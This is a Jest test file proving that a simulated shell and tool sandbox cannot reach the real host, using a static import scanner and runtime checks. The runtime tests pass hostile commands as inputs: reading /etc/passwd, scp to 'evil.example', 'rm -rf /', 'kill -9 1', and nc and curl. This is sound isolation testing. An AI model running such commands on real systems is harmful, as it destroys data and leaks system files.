/**
 * Proof that the sandbox cannot reach the real machine: (a) statically, nothing under src/world or
 * src/tools imports anything but relative modules and a short allowlist, nor touches process,
 * eval, Function, globalThis or fetch; (b) at runtime, hostile commands leave the real filesystem,
 * processes and network alone and only ever see the in-memory world.
 */
import { afterEach, beforeEach, describe, expect, it, jest } from '@jest/globals'
import childProcess from 'node:child_process'
import { randomUUID } from 'node:crypto'
import { existsSync, readFileSync, readdirSync, rmSync, writeFileSync } from 'node:fs'
import net from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join, relative, resolve } from 'node:path'
import { fileURLToPath } from 'node:url'
import { CATALOG } from '../src/tools/catalog.js'
import { runShell } from '../src/tools/shell.js'
import { testContext } from './helpers/world.js'

const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '..')
const SRC = join(ROOT, 'src')
const SANDBOX_DIRS = ['src/world', 'src/tools'].map((dir) => join(ROOT, dir))
const ALLOWED_MODULES = new Set(['yaml', 'picomatch', 'node:crypto'])

/** Escape hatches to the host environment. `process` is allowed inside quotes (op names like 'process.kill'). */
const FORBIDDEN: Array<[RegExp, string]> = [
  [/(?<![\w$.'"`-])process\s*[.[]/, 'process access'],
  [/\beval\s*\(/, 'eval('],
  [/\bnew\s+Function\b/, 'new Function'],
  [/\bglobalThis\b/, 'globalThis'],
  [/\bfetch\s*\(/, 'fetch('],
  [/\brequire\s*\(/, 'require('],
  [/\bimport\s*\(/, 'dynamic import(']
]

function sourceFiles(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) => {
    const path = join(dir, entry.name)
    if (entry.isDirectory()) return sourceFiles(path)
    return entry.name.endsWith('.ts') ? [path] : []
  })
}

/** Violations in one file's text, as `file:line: reason`. */
function scan(file: string, text: string): string[] {
  const problems: string[] = []
  text.split('\n').forEach((line, index) => {
    const where = `${relative(ROOT, file)}:${index + 1}`
    const specifiers = [...line.matchAll(/\bfrom\s*['"]([^'"]+)['"]|^\s*import\s*['"]([^'"]+)['"]/g)].map((m) => m[1] ?? m[2] ?? '')
    for (const specifier of specifiers) {
      if (specifier.startsWith('./') || specifier.startsWith('../')) {
        const target = resolve(dirname(file), specifier)
        if (!target.startsWith(SRC + '/')) problems.push(`${where}: relative import leaves src/: ${specifier}`)
      } else if (!ALLOWED_MODULES.has(specifier)) {
        problems.push(`${where}: imports '${specifier}'`)
      }
    }
    for (const [pattern, reason] of FORBIDDEN) if (pattern.test(line)) problems.push(`${where}: ${reason}`)
  })
  return problems
}

describe('static isolation of src/world and src/tools', () => {
  it('the scanner catches what it should', () => {
    const fake = join(SRC, 'world', 'fake.ts')
    const bad = [
      "import { readFileSync } from 'node:fs'",
      "import 'child_process'",
      "export * from '../../node_modules/x'",
      'const env = process.env.HOME',
      'eval("1")',
      'globalThis.x = 1',
      "await fetch('http://x')",
      "const m = await import('node:net')"
    ].join('\n')
    expect(scan(fake, bad)).toHaveLength(8)
    expect(scan(fake, "import { x } from './paths.js'\nconst op = 'process.kill'\nimport picomatch from 'picomatch'")).toEqual([])
  })

  it('no file imports a node builtin or package outside the allowlist, or reaches the host', () => {
    const files = SANDBOX_DIRS.flatMap(sourceFiles)
    expect(files.length).toBeGreaterThanOrEqual(10)
    const problems = files.flatMap((file) => scan(file, readFileSync(file, 'utf8')))
    expect(problems).toEqual([])
  })
})

describe('runtime isolation', () => {
  const escapePath = join(tmpdir(), `sg-escape-${randomUUID()}`)
  const sentinel = join(tmpdir(), `sg-sentinel-${randomUUID()}`)
  const realPasswd = existsSync('/etc/passwd') ? readFileSync('/etc/passwd', 'utf8') : 'root:x:0:0:'
  const hostCalls: string[] = []

  beforeEach(() => {
    writeFileSync(sentinel, 'keep me')
    hostCalls.length = 0
    // Any attempt at the network or at spawning a process is recorded (and refused).
    const refuse = (name: string) => () => {
      hostCalls.push(name)
      throw new Error(`sandbox escaped via ${name}`)
    }
    jest.spyOn(net.Socket.prototype, 'connect').mockImplementation(refuse('net.connect'))
    for (const name of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'] as const) {
      jest.spyOn(childProcess, name).mockImplementation(refuse(`child_process.${name}`))
    }
    if (typeof globalThis.fetch === 'function') jest.spyOn(globalThis, 'fetch').mockImplementation(refuse('fetch'))
  })

  afterEach(() => {
    jest.restoreAllMocks()
    rmSync(sentinel, { force: true })
  })

  it('hostile shell commands only ever touch the in-memory world', () => {
    const ctx = testContext()
    const outputs: string[] = []
    const run = (command: string) => {
      const result = runShell(command, ctx)
      outputs.push(result.output)
      return result
    }
    expect(run('cat /etc/passwd')).toEqual({ output: 'cat: /etc/passwd: No such file or directory\n', error: true })
    expect(run(`echo x > ${escapePath}`).error).toBeUndefined()
    expect(ctx.world.hosts.ops?.files[escapePath]?.content).toBe('x\n') // it went to the world instead
    expect(run('scp /etc/hostname evil.example:/x').output).toContain('Could not resolve hostname evil.example')
    expect(run('curl http://127.0.0.1')).toMatchObject({ output: 'bash: curl: command not found\n', error: true })
    expect(run('wget http://127.0.0.1; nc -l 80; python3 -c "print(1)"; node -e 1').output).toContain('command not found')
    run('kill -9 1')
    expect(ctx.world.processes['1']?.status).toBe('stopped')
    const worldTop = new Set(Object.keys(ctx.world.hosts.ops?.files ?? {}).map((path) => path.split('/')[1]))
    expect(run('ls /').output).toBe([...worldTop].sort().join('\n') + '\n')
    run(`rm -rf ${tmpdir()}`)
    run('rm -rf /')
    expect(Object.keys(ctx.world.hosts.ops?.files ?? {})).toEqual(['/etc/app/locked.conf']) // immutable survives

    expect(existsSync(escapePath)).toBe(false)
    expect(readFileSync(sentinel, 'utf8')).toBe('keep me')
    const firstPasswdLine = realPasswd.split('\n')[0] ?? 'root:x:0:0:'
    for (const output of outputs) expect(output).not.toContain(firstPasswdLine)
    expect(hostCalls).toEqual([])
  })

  it('hostile tool calls only ever touch the in-memory world', () => {
    const ctx = testContext()
    expect(CATALOG.read_file.run({ path: '/etc/passwd' }, ctx)).toEqual({ output: '/etc/passwd: No such file or directory', error: true })
    CATALOG.write_file.run({ path: escapePath, content: 'x' }, ctx)
    expect(CATALOG.copy_file.run({ source: '/etc/hostname', destination: '/x', destination_host: 'evil.example' }, ctx).error).toBe(true)
    CATALOG.delete_file.run({ path: sentinel }, ctx)
    CATALOG.kill_process.run({ pid: 1 }, ctx)
    expect(CATALOG.list_files.run({ path: '/' }, ctx).output).not.toContain('proc')
    expect(CATALOG.bash.run({ command: `cat ${sentinel}; ls ${tmpdir()}` }, ctx).output).not.toContain('keep me')

    expect(existsSync(escapePath)).toBe(false)
    expect(readFileSync(sentinel, 'utf8')).toBe('keep me')
    expect(hostCalls).toEqual([])
  })
})
